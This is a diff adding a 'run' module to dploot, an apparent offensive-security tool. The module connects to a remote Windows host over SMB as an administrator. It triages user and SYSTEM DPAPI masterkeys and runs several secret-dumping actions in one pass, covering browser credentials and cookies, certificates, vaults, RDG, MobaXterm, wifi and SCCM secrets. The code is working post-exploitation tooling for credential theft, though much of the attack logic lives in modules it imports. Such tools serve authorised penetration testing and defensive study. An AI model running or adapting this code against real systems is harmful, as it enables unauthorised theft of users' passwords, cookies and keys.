@@ -0,0 +1,242 @@
+import argparse
+import logging
+import sys
+import time
+from typing import Any, Callable, List, Tuple
+
+from dploot.action import (
+    backupkey,
+    browser,
+    certificates,
+    credentials,
+    machinecertificates,
+    machinecredentials,
+    machinetriage,
+    machinevaults,
+    mobaxterm,
+    rdg,
+    sccm,
+    triage,
+    vaults,
+    wifi,
+    )
+from dploot.action.masterkeys import add_masterkeys_argument_group, dump_lazy_masterkeys, parse_masterkeys_options
+from dploot.lib.output import get_output
+from dploot.lib.smb import DPLootSMBConnection
+from dploot.lib.target import Target, add_target_argument_group
+from dploot.triage.masterkeys import LazyMasterkeys, MasterkeysTriage, parse_masterkey_file
+
+NAME = 'run'
+
+RUNNABLE_ACTIONS = {
+    backupkey.NAME: (backupkey, backupkey.BackupkeyAction),
+    browser.NAME: (browser, browser.BrowserAction),
+    certificates.NAME: (certificates, certificates.CertificatesAction),
+    credentials.NAME: (credentials, credentials.CredentialsAction),
+    machinecertificates.NAME: (machinecertificates, machinecertificates.MachineCertificatesAction),
+    machinecredentials.NAME: (machinecredentials, machinecredentials.MachineCredentialsAction),
+    machinetriage.NAME: (machinetriage, machinetriage.MachineTriageAction),
+    machinevaults.NAME: (machinevaults, machinevaults.MachineVaultsAction),
+    mobaxterm.NAME: (mobaxterm, mobaxterm.MobaXtermAction),
+    rdg.NAME: (rdg, rdg.RDGAction),
+    sccm.NAME: (sccm, sccm.SCCMAction),
+    triage.NAME: (triage, triage.TriageAction),
+    vaults.NAME: (vaults, vaults.VaultsAction),
+    wifi.NAME: (wifi, wifi.WifiAction),
+}
+
+# actions decrypting blobs protected by users masterkeys, and by SYSTEM masterkeys
+USER_MASTERKEYS_ACTIONS = [browser.NAME, certificates.NAME, credentials.NAME, mobaxterm.NAME, rdg.NAME, triage.NAME, vaults.NAME, wifi.NAME]
+SYSTEM_MASTERKEYS_ACTIONS = [machinecertificates.NAME, machinecredentials.NAME, machinetriage.NAME, machinevaults.NAME, sccm.NAME, wifi.NAME]
+
+class RunAction:
+
+    def __init__(self, options: argparse.Namespace) -> None:
+        self.options = options
+        self.target = Target.from_options(options)
+        self.output = get_output(options)
+
+        self.conn = None
+        self._is_admin = None
+        self.masterkeys = None
+        self.pvkbytes = None
+        self.passwords = None
+        self.nthashes = None
+
+        self.actions = [action.strip() for action in self.options.actions.split(',') if action.strip() != '']
+        for action in self.actions:
+            if action not in RUNNABLE_ACTIONS:
+                logging.error("Unknown action %s, valid actions are: %s" % (action, ','.join(RUNNABLE_ACTIONS)))
+                sys.exit(1)
+
+        if self.options.mkfile is not None:
+            try:
+                self.masterkeys = parse_masterkey_file(self.options.mkfile)
+            except Exception as e:
+                logging.error(str(e))
+                sys.exit(1)
+
+        self.pvkbytes, self.passwords, self.nthashes = parse_masterkeys_options(self.options, self.target)
+
+    def connect(self) -> None:
+        if self.conn is not None:
+            return
+        self.conn = DPLootSMBConnection(self.target)
+        if self.conn.connect() is None:
+            logging.error("Could not connect to %s" % self.target.address)
+            sys.exit(1)
+
+    def run(self) -> None:
+        timings = list()
+        start = time.perf_counter()
+        self.connect()
+        logging.info("Connected to %s as %s\\%s %s\n" % (self.target.address, self.target.domain, self.target.username, ( "(admin)"if self.is_admin  else "")))
+        timings.append(('connect', time.perf_counter() - start))
+        if not self.is_admin:
+            logging.info("Not an admin, exiting...")
+            return
+
+        if self.masterkeys is None:
+            start = time.perf_counter()
+            self.masterkeys = self.triage_masterkeys()
+            timings.append(('masterkeys', time.perf_counter() - start))
+            if not isinstance(self.masterkeys, LazyMasterkeys):
+                self.output.newline()
+
+        for name in self.actions:
+            start = time.perf_counter()
+            try:
+                self.create_action(name).run()
+            except Exception as e:
+                logging.error("Action %s failed: %s" % (name, e))
+                if logging.getLogger().level == logging.DEBUG:
+                    import traceback
+                    traceback.print_exc()
+            # those of actions that do not output the masterkeys they needed
+            dump_lazy_masterkeys(self.masterkeys, self.output)
+            timings.append((name, time.perf_counter() - start))
+
+        logging.info("Time spent per action:")
+        for name, duration in timings:
+            logging.info("%-20s %8.2fs" % (name, duration))
+
+    def triage_masterkeys(self) -> "List[Any] | LazyMasterkeys":
+        masterkeys = list()
+        masterkeys_triage = MasterkeysTriage(target=self.target, conn=self.conn, pvkbytes=self.pvkbytes, nthashes=self.nthashes, passwords=self.passwords, per_finding_callback=self.output.dump)
+        if self.options.lazy_masterkeys:
+            logging.info("Masterkeys will be decrypted as blobs need them\n")
+            return masterkeys_triage.lazy_masterkeys(
+                users=any(action in USER_MASTERKEYS_ACTIONS for action in self.actions),
+                system=any(action in SYSTEM_MASTERKEYS_ACTIONS for action in self.actions),
+            )
+        if any(action in SYSTEM_MASTERKEYS_ACTIONS for action in self.actions):
+            logging.info("Triage SYSTEM masterkeys\n")
+            masterkeys += masterkeys_triage.triage_system_masterkeys()
+        if any(action in USER_MASTERKEYS_ACTIONS for action in self.actions):
+            logging.info("Triage ALL USERS masterkeys\n")
+            masterkeys += masterkeys_triage.triage_masterkeys()
+        return masterkeys
+
+    def action_options(self, name: str) -> argparse.Namespace:
+        ''' Returns the options of action name, as if it was run from the command line with the options of this run '''
+        module, _ = RUNNABLE_ACTIONS[name]
+        parser = argparse.ArgumentParser(add_help=False)
+        module.add_subparser(parser.add_subparsers(dest="action"))
+        options = parser.parse_args([name, self.options.target])
+        for key, value in vars(self.options).items():
+            if key in options and key != 'action':
+                setattr(options, key, value)
+        # masterkeys are shared, and password was already asked for
+        options.mkfile = None
+        options.password = self.target.password
+        options.no_pass = True
+        return options
+
+    def create_action(self, name: str) -> Any:
+        _, action_class = RUNNABLE_ACTIONS[name]
+        action = action_class(self.action_options(name))
+        action.target = self.target
+        action.conn = self.conn
+        action._is_admin = self._is_admin
+        if hasattr(action, 'masterkeys'):
+            action.masterkeys = self.masterkeys
+        return action
+
+    @property
+    def is_admin(self) -> bool:
+        if self._is_admin is not None:
+            return self._is_admin
+
+        self._is_admin = self.conn.is_admin()
+        return self._is_admin
+
+def entry(options: argparse.Namespace) -> None:
+    a = RunAction(options)
+    a.run()
+
+def add_subparser(subparsers: argparse._SubParsersAction) -> Tuple[str, Callable]:
+
+    subparser = subparsers.add_parser(NAME, help="Run several actions against the target, sharing the connection and masterkeys")
+
+    group = subparser.add_argument_group("run options")
+
+    group.add_argument(
+        "-a",
+        "-actions",
+        dest="actions",
+        action="store",
+        required=True,
+        metavar="action1,action2",
+        help=(
+            "Comma separated list of actions to run, among: %s" % ','.join(RUNNABLE_ACTIONS)
+        ),
+    )
+
+    group.add_argument(
+        "-mkfile",
+        action="store",
+        help=(
+            "File containing {GUID}:SHA1 masterkeys mappings, or a binary masterkey file written by the mkfile action"
+        ),
+    )
+
+    add_masterkeys_argument_group(group)
+
+    group.add_argument(
+        "-dump-all",
+        action="store_true",
+        help=(
+            "Dump also certificates not used for client authentication"
+        )
+    )
+
+    group.add_argument(
+        "-show-cookies",
+        action="store_true",
+        help=(
+            "Output dumped cookies from browsers"
+        )
+    )
+
+    group.add_argument(
+        "-wmi",
+        action="store_true",
+        help=(
+            "Dump SCCM secrets from WMI requests results"
+        )
+    )
+
+    group.add_argument(
+        "-wmi-batch-size",
+        action="store",
+        type=int,
+        default=100,
+        metavar="N",
+        help=(
+            "Number of WMI objects fetched per request with -wmi (default 100)"
+        )
+    )
+
+    add_target_argument_group(subparser)
+
+    return NAME, entry